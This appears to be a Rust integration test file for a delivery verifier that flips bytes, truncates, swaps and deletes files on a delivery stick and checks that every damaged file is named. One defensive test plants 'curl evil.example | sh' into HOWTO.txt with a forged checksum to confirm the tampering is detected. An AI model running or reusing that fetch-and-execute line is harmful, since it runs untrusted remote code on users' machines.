//! A delivery looked through without a repository: whatever is done to a file of it, that file is named.

use std::{
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
};

use imgdelta_core::{Format, Kind, Result};
use imgdelta_deploy::bundle::{VerifiedDelivery, verify};

use crate::place::{Place, Windows, files_below};

/// A stick with a transport file, a child with its manifest, and a whole image.
fn stick(place: &Place) -> Result<PathBuf> {
    let hq = place.repository("hq", Format::Qcow2)?;
    let [site, empty] = ["site", "empty"].map(|name| place.repository(name, Format::Raw));
    let (site, empty) = (site?, empty?);
    let old = Windows::new(12, 1);
    place.add(&hq, "old", &old, Format::Raw, None)?;
    place.add(&hq, "new", &old.with(4..6, 2), Format::Raw, Some("old"))?;
    place.add(&hq, "other", &old.with(0..1, 3), Format::Raw, Some("old"))?;
    place.add(&site, "old", &old, Format::Raw, None)?;
    place.carry(&hq, &["new"], &[&site, &empty], "stick")?;
    place.carry_children(&hq, &["other"], &[&site], "stick")?;
    let files = files_below(&place.at("stick"));
    assert_eq!(files.len(), 3 + 1 + 2 + 1, "{files:?}");
    Ok(place.at("stick"))
}

/// What is wrong: the names of files, with the kinds of their errors.
fn wrong(found: &VerifiedDelivery) -> Vec<(String, Kind)> {
    let faults = found.faults();
    faults
        .map(|(file, error)| {
            let message = error.to_string();
            assert!(message.contains(&file.name), "{message}");
            assert!(error.hint().is_some(), "{message}");
            (file.name.clone(), error.kind())
        })
        .collect()
}

fn look(place: &Place, stick: &Path) -> Result<Vec<(String, Kind)>> {
    Ok(wrong(&verify(stick, None, &place.context())?))
}

#[test]
fn every_file_that_is_not_what_was_put_there_is_named_and_no_other_one() -> Result<()> {
    let place = Place::new();
    let stick = stick(&place)?;
    let found = verify(&stick, None, &place.context())?;
    assert_eq!(
        (wrong(&found), found.files.len(), found.others),
        (vec![], 7, 0)
    );
    let before = files_below(&stick);
    for (name, whole) in &before {
        let path = stick.join(name);
        let is_list = name == "delivery.json";
        let step = (whole.len() / 23).max(1);
        for at in (0..whole.len()).step_by(step) {
            let mut flipped = whole.clone();
            flipped[at] ^= 0x10;
            fs::write(&path, flipped).expect("room");
            match look(&place, &stick) {
                Ok(found) => {
                    assert!(
                        found.iter().any(|(file, _)| file == name),
                        "{name} at {at}: {found:?}"
                    );
                    // Of a list and its sums that differ nobody knows which is damaged.
                    let is_either = is_list || name == "SHA256SUMS";
                    assert!(is_either || found.len() == 1, "{name} at {at}: {found:?}");
                }
                // Of a list that cannot be read nothing is believed.
                Err(error) => assert!(is_list, "{name} at {at}: {error}"),
            }
        }
        for cut in [0, whole.len() / 2, whole.len() - 1] {
            fs::write(&path, &whole[..cut]).expect("room");
            match look(&place, &stick) {
                Ok(found) => {
                    assert!(
                        found.iter().any(|(file, _)| file == name),
                        "{name} cut at {cut}: {found:?}"
                    );
                    assert!(
                        is_list || found.len() == 1,
                        "{name} cut at {cut}: {found:?}"
                    );
                }
                Err(error) => assert!(is_list, "{name} cut at {cut}: {error}"),
            }
        }
        let longer = [whole.as_slice(), b"x"].concat();
        fs::write(&path, longer).expect("room");
        assert!(
            !matches!(look(&place, &stick), Ok(found) if found.is_empty()),
            "{name} is longer"
        );
        fs::remove_file(&path).expect("it is there");
        if name.starts_with("new") || name.starts_with("other") {
            assert_eq!(look(&place, &stick)?, [(name.clone(), Kind::Corrupt)]);
            symlink("/etc/hostname", &path).expect("links");
            assert_eq!(look(&place, &stick)?, [(name.clone(), Kind::Reference)]);
            fs::remove_file(&path).expect("it is there");
        }
        fs::write(&path, whole).expect("room");
    }
    assert_eq!(look(&place, &stick)?, []);
    assert_eq!(files_below(&stick), before, "nothing is written");
    Ok(())
}

#[test]
fn what_was_exchanged_or_is_foreign_is_named_and_what_is_others_is_counted() -> Result<()> {
    let place = Place::new();
    let stick = stick(&place)?;
    let parts: Vec<PathBuf> = files_below(&stick)
        .into_iter()
        .filter(|(name, _)| name.starts_with("new"))
        .map(|(name, _)| stick.join(name))
        .collect();
    let [one, two] = &parts[..] else {
        panic!("{parts:?}");
    };
    let spare = place.at("spare");
    let exchange = || {
        fs::rename(one, &spare).expect("there");
        fs::rename(two, one).expect("there");
        fs::rename(&spare, two).expect("there");
    };
    exchange();
    let found = verify(&stick, None, &place.context())?;
    let faults: Vec<String> = found.faults().map(|(_, error)| error.to_string()).collect();
    assert_eq!(faults.len(), 2);
    assert!(
        faults.iter().all(|fault| fault.contains("should be")),
        "{faults:?}"
    );
    exchange();
    assert_eq!(look(&place, &stick)?, []);

    fs::write(stick.join("photo.jpg"), b"mine").expect("room");
    fs::create_dir(stick.join("music")).expect("room");
    let foreign = "gone.0123456789ab.from-0123456789ab.imgdelta";
    fs::write(stick.join(foreign), b"left").expect("room");
    let found = verify(&stick, None, &place.context())?;
    assert_eq!(wrong(&found), [(foreign.to_owned(), Kind::Corrupt)]);
    assert_eq!(found.others, 2);
    Ok(())
}

#[test]
fn sums_are_those_of_sha256sum_and_go_with_a_list_that_is_another_one() -> Result<()> {
    let place = Place::new();
    let stick = stick(&place)?;
    let checked = std::process::Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&stick)
        .output()
        .expect("sha256sum: package coreutils");
    assert!(checked.status.success(), "{checked:?}");
    let said = String::from_utf8(checked.stdout).expect("text");
    assert_eq!(said.lines().count(), 6, "all but itself: {said}");
    // What says to people what to type is vouched for by the list, whatever the sums say.
    let howto = fs::read_to_string(stick.join("HOWTO.txt")).expect("it is there");
    let evil = howto.replace("imgdelta verify", "curl evil.example | sh #");
    let digest = |text: &str| imgdelta_delta::Digest::plain(text.as_bytes()).to_string();
    let sums = fs::read_to_string(stick.join("SHA256SUMS")).expect("it is there");
    fs::write(stick.join("HOWTO.txt"), &evil).expect("room");
    fs::write(
        stick.join("SHA256SUMS"),
        sums.replace(&digest(&howto), &digest(&evil)),
    )
    .expect("room");
    let found = look(&place, &stick)?;
    let named: Vec<&str> = found.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(named, ["HOWTO.txt", "SHA256SUMS"]);
    // A run that was cut leaves none, which is no fault.
    fs::remove_file(stick.join("SHA256SUMS")).expect("it is there");
    fs::write(stick.join("HOWTO.txt"), &howto).expect("room");
    let found = verify(&stick, None, &place.context())?;
    assert!(found.faults().next().is_none());
    assert!(
        found.notes.iter().any(|note| note.contains("SHA256SUMS")),
        "{:?}",
        found.notes
    );
    Ok(())
}

#[test]
fn a_stick_of_version_1_is_looked_through_too() -> Result<()> {
    let place = Place::new();
    let kept = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/version_1/delivery");
    let stick = place.at("stick");
    fs::create_dir(&stick).expect("room");
    for (name, bytes) in files_below(Path::new(kept)) {
        fs::write(stick.join(name), bytes).expect("room");
    }
    assert_eq!(look(&place, &stick)?, []);
    let file = place.index("stick")?.items.remove(0).file;
    let path = stick.join(file.name.as_str());
    let mut bytes = fs::read(&path).expect("it is there");
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    fs::write(&path, bytes).expect("room");
    assert_eq!(
        look(&place, &stick)?,
        [(file.name.to_string(), Kind::Digest)]
    );
    Ok(())
}
